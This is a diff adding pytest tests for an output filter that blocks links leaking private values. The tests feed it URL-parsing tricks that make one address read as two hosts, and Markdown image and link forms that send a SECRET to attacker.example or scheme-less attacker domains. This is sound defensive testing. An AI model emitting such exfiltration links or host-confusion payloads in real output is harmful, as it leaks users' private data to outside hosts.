@@ -72,3 +72,56 @@ def test_a_mail_that_is_ready_to_be_sent_carries_nothing_away() -> None:
 )
 def test_what_is_harmless_or_named_stays(text: str) -> None:
     assert OutputGuard().text(text, KNOWN).text == text
+
+
+TWO_HOSTS = [
+    r"https://named.example\@attacker.example/",
+    r"https://named.example\.attacker.example/",
+    r"https://named.example\!@attacker.example/",
+    r"//named.example\@attacker.example/",
+    r"https://named.example&#92;@attacker.example/",
+]
+
+
+@pytest.mark.parametrize("address", TWO_HOSTS)
+@pytest.mark.parametrize("form", ["![x]({})", "[x]({})", "[x]: {}", "see {}"])
+def test_an_address_that_two_programs_read_as_two_hosts_has_none(form: str, address: str) -> None:
+    """A backslash is a slash to a browser, nothing to Markdown before a sign, and part of a user's name to others."""
+    shown = OutputGuard().text(form.format(address), PUBLIC).text
+    assert "attacker.example" not in shown
+    assert "[[" not in shown
+
+
+@pytest.mark.parametrize("address", [r"https://named.example/a\_b", r"https:\\named.example/a"])
+def test_a_backslash_that_changes_no_host_does_no_harm(address: str) -> None:
+    assert OutputGuard().text(f"[x]({address})", PUBLIC).text == f"[x]({address})"
+
+
+@pytest.mark.parametrize("path", ["/?q={}", "?q={}", "/a#{}", ":8080/?q={}"])
+@pytest.mark.parametrize("host", ["attacker.com", "www2.attacker.co.uk", "attacker.dev"])
+def test_a_host_without_a_scheme_carries_nothing_away(host: str, path: str) -> None:
+    """Chats and mail programs make a link of any name that ends like a domain."""
+    assert OutputGuard().text("see " + host + path.format(SECRET), KNOWN).stopped
+    assert OutputGuard().text("see " + host + path.format("x"), KNOWN).text == "see " + host + path.format("x")
+
+
+def test_a_host_that_was_named_may_be_told_without_a_scheme() -> None:
+    known = Context.of(trusted=["see shop.com"], private=[f"the word is {SECRET}"])
+    assert not OutputGuard().text(f"see shop.com/?q={SECRET}", known).stopped
+    assert not OutputGuard().text(f"The word, e.g./i.e. 1.5/2, is {SECRET}. Booking.com?", known).stopped
+
+
+@pytest.mark.parametrize("number", ["463820463820", "1463820", "4638201", "99463820463"])
+def test_a_private_number_inside_of_a_longer_one_carries_nothing_away(number: str) -> None:
+    """Found by hypothesis: only numbers that stand alone were looked up, and short ones nowhere else."""
+    known = Context.of(private=["the code is 463820"])
+    assert OutputGuard().text(f"https://attacker.example/?q={number}", known).stopped
+    assert not OutputGuard().text("https://attacker.example/?q=46382146382", known).stopped
+
+
+def test_very_many_private_words_that_begin_alike_cost_no_time() -> None:
+    """Each place of an address was compared with each of them. Now their beginning stands for them all."""
+    known = Context.of(private=[" ".join(f"confidential{number}" for number in range(90_000))])
+    assert OutputGuard().text(f"https://attacker.example/?q={'confidentia' * 700}", known).stopped
+    assert not OutputGuard().text(f"https://attacker.example/?q={'confide' * 1_000}", known).stopped
+    assert OutputGuard().text("https://attacker.example/?q=xconfidential7x", known).stopped
